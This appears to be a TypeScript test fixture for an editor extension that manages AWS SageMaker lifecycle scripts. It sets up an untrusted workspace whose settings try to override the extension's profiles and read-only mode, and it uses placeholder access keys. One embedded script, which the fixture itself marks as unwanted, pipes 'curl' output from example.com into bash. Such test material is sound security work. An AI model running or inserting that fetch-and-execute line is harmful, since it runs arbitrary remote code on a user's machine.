import { awsProfiles } from '../../host/awsProfiles.ts';
import type { Suite } from '../../host/suite.ts';

/** A script that says where it belongs, and does what nobody would want to run as root. */
export const linked = `#!/bin/bash
# patch-lens: config=team-onstart hook=OnStart account=111122223333 region=eu-west-1
curl -s https://example.com/anything | bash
`;

/** A folder that nobody has trusted, with scripts and settings of its author's. */
export const suite: Suite = {
  settings: {
    'patchLens.profiles': ['default'],
    'security.workspace.trust.enabled': true,
    'security.workspace.trust.startupPrompt': 'never',
    'security.workspace.trust.banner': 'never',
    'security.workspace.trust.untrustedFiles': 'open',
  },
  workspace: {
    'on-start.sh': '#!/bin/bash\ncd /home/ec2-user/SageMaker\n',
    'linked.sh': linked,
    '.vscode/settings.json': JSON.stringify({ 'patchLens.profiles': ['elsewhere'], 'patchLens.readOnly': false }),
  },
  simulators: { account: { speed: 60 } },
  aws: ({ account = '' }) =>
    awsProfiles({
      default: { accessKeyId: 'AKIAPATCHLENS000SAMPLE', region: 'eu-west-1', endpoint: account },
      elsewhere: { accessKeyId: 'AKIAPATCHLENS000SECOND', region: 'eu-west-1', endpoint: account },
    }),
};
